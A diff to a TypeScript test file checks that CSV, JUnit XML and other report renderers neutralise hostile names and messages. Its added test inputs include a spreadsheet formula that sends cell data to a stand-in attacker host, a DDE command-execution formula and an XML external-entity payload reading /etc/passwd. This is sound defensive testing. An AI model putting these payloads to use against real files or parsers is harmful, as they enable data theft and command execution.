@@ -1,7 +1,9 @@
 import type { Log } from "sarif";
 import stringWidth from "string-width";
 import { describe, expect, test } from "vitest";
+import { renderCsv } from "../../src/report/csv.ts";
 import { renderJson } from "../../src/report/json.ts";
+import { renderJunit } from "../../src/report/junit.ts";
 import { renderMarkdown } from "../../src/report/markdown.ts";
 import { renderSarif } from "../../src/report/sarif.ts";
 import { renderTerminal } from "../../src/report/terminal.ts";
@@ -9,6 +11,7 @@ import { prose, visible } from "../../src/report/text.ts";
 import type { Report } from "../../src/resources/generated.ts";
 import { violations } from "../../src/resources/validate.ts";
 import { aFullReport, aReport, grouped } from "./build.ts";
+import { casesOf, linesOf } from "./read.ts";
 import { faults } from "./validators.ts";
 
 const hostile: [string, string][] = [
@@ -26,6 +29,9 @@ const hostile: [string, string][] = [
   ["noncharacters", "\ufffe\uffff\u{1ffff}"],
   ["nothing", ""],
   ["only spaces", "  \t "],
+  ["a formula", '=HYPERLINK("https://evil.example/?"&A1;"open")'],
+  ["a formula behind room", "\t +1+cmd|' /C calc'!A0"],
+  ["the end of CDATA and an entity", "]]></failure><!ENTITY x SYSTEM 'file:///etc/passwd'>&x;"],
   ["very long", "x".repeat(100_000)],
   ["very long and wide", "資".repeat(100_000)],
   ["__proto__", "__proto__"],
@@ -107,6 +113,19 @@ describe.each(hostile)("names and messages that hold %s", (_, text) => {
     expect(sarif.counts.results).toBe(4);
     // biome-ignore lint/suspicious/noControlCharactersInRegex: these are what is looked for
     expect(sarif.text).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202e\u2028\u2029]/);
+  });
+
+  test("leave JUnit XML well formed, with as many cases as there are", () => {
+    const xml = renderJunit(report);
+    // biome-ignore lint/suspicious/noControlCharactersInRegex: these are what is looked for
+    expect(xml).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202e\u2028\u2029\ufffe\uffff]/);
+    expect(casesOf(xml).filter((each) => each.result?.element === "failure")).toHaveLength(4);
+  });
+
+  test("leave the table with a line for each thing, and no cell that a spreadsheet reckons with", () => {
+    const lines = linesOf(renderCsv(report));
+    expect(lines).toHaveLength(report.findings.length + report.unknown.length + report.unread.length);
+    for (const cell of lines.flatMap((line) => Object.values(line))) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
   });
 
   test("leave report.json as its schema says", () => {
